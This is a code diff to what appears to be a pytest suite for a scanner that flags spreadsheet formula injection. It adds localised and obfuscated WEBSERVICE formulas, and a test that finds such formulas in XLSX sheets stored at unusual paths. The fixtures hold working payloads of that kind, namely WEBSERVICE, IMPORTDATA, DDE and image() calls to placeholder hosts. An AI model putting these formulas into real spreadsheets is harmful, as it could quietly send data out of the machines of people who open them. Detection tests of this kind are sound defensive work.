@@ -194,6 +194,8 @@ DISGUISED_TABLES = [
     (b'a;"=WEBSERVICE(_xlfn.CONCAT(""http://x/""))"\n', _FETCHED, "WEBSERVICE("),
     (b'a;"=DDE(""soffice"",""x"",""y"")"\n', _FETCHED, "DDE("),
     (b'a;"=IMPORTDATA(""http://x"")"\n', _FETCHED, "IMPORTDATA("),
+    ('a;=ВЕБСЛУЖБА("http://x")\n'.encode(), _FETCHED, "ВЕБСЛУЖБА("),
+    ("a;=WEBSERVICE(СЦЕПИТЬ(A1;B1))\n".encode(), _FETCHED, "WEBSERVICE("),
     (b"a,b\n1,=MSEXCEL|x!R1\n", _FETCHED, "MSEXCEL"),
     (b'a;b\n1;-image("http://x.kg/x.png")\n', _FETCHED, "image("),
     (b'a,b\n1,"=1+WEBSERVICE(""http://x.kg"")"\n', _FETCHED, "WEBSERVICE("),
@@ -213,6 +215,15 @@ ORDINARY_TABLES = [
     "From: Osh,To: Nookat\n1,2\n",
     'a,b\n1,"- the call (see ""A""), then"\n',
 ]
+
+
+@pytest.mark.parametrize(
+    "place", ["s.xml", *(f"{each}/s.xml" for each in ("customXml", "docProps", "_xmlsignatures", "package"))]
+)
+def test_a_sheet_is_read_wherever_a_relation_may_find_it(place: str) -> None:
+    calls = b'<worksheet><f>WEBSERVICE("http://x.kg/"&amp;A2)</f></worksheet>'
+    (found,) = recognise(package(SHEETS, (place, calls)), "table.xlsx", LIMIT)[1]
+    assert found.kind is _FETCHED
 
 
 def _found(content: bytes, name: str) -> list[tuple[Kind, str]]:
